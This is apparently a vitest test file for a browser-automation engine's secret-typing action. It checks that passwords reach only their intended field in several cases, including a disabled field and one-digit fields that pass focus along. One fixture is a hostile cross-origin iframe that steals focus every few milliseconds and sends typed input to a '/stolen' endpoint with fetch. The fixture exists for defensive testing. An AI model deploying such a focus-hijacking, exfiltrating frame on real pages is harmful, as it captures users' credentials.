// Where a secret gets to in a real browser: into its own field whatever takes the focus meanwhile, and nowhere that is not its place.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { ActionResult, SecretRule } from '../../engine/contract.ts';
import { call, type On, WebRig } from './web.fixture.ts';

const rig = new WebRig();
/** What the other site was sent. */
const stolen: string[] = [];
beforeAll(() => rig.start(), 60_000);
beforeEach(() => {
  stolen.splice(0);
  rig.routes['/stolen'] = (request, response) => {
    stolen.push(request.url ?? '');
    response.end();
  };
});
afterEach(() => rig.endSessions());
afterAll(() => rig.stop());

/** The same server by another name: another site. */
const other = (): string => rig.url.replace('127.0.0.1', 'localhost');

async function fill(on: On, name: string, secret: string, secretRule?: SecretRule): Promise<ActionResult> {
  const { id } = await on.find('textbox', name);
  return await on.session.perform(
    { kind: 'typeSecret', target: id, name: 'password' },
    { ...call(), secret, ...(secretRule === undefined ? {} : { secretRule }) },
  );
}

const valuesOf = async (on: On): Promise<unknown> => {
  const page = on.session.browser?.page as { evaluate(script: string): Promise<unknown> };
  return await page.evaluate(`[...document.querySelectorAll('input')].map(({ value }) => value)`);
};

describe('a secret on its way into a field', () => {
  test.each([
    ['a field of any length', '', 'open sesame'],
    ['a field that takes less', 'maxlength=4', 'open'],
    [
      'a field that works by keys',
      'onkeydown="this.value += event.key" onbeforeinput="event.preventDefault()"',
      'open sesame',
    ],
  ])('is caught by no frame that takes the focus all the time: %s', async (_title, attributes, value) => {
    rig.routes['/thief'] = `<input oninput="fetch('/stolen?' + this.value)">
<script>setInterval(() => document.querySelector('input').focus(), 3)</script>`;
    const on = await rig.on(
      `<input type=password aria-label=Password ${attributes}><iframe src="${other()}/thief"></iframe>`,
    );
    for (let round = 0; round < 3; round += 1) {
      expect(await fill(on, 'Password', 'open sesame')).toEqual({ ok: true });
      expect(await valuesOf(on)).toEqual([value]);
    }
    expect(stolen).toEqual([]);
  });

  test('goes on where the app passes the focus on: one character per field', async () => {
    const box = `<input aria-label=Digit maxlength=1 oninput="setTimeout(() => this.nextElementSibling?.focus())">`;
    const on = await rig.on(box.repeat(4));
    expect(await fill(on, 'Digit', '4938')).toEqual({ ok: true });
    expect(await valuesOf(on)).toEqual(['4', '9', '3', '8']);
  });

  test('waits for its field, and is told to the app as input', async () => {
    const on = await rig.on(
      `<input type=password aria-label=Password disabled oninput="document.querySelector('p').textContent = 'got ' + this.value.length"><p role=status></p>
<script>setTimeout(() => { document.querySelector('input').disabled = false }, 400)</script>`,
    );
    expect(await fill(on, 'Password', 'open sesame')).toEqual({ ok: true });
    expect((await on.find('status')).text).toBe('got 11');
  });
});
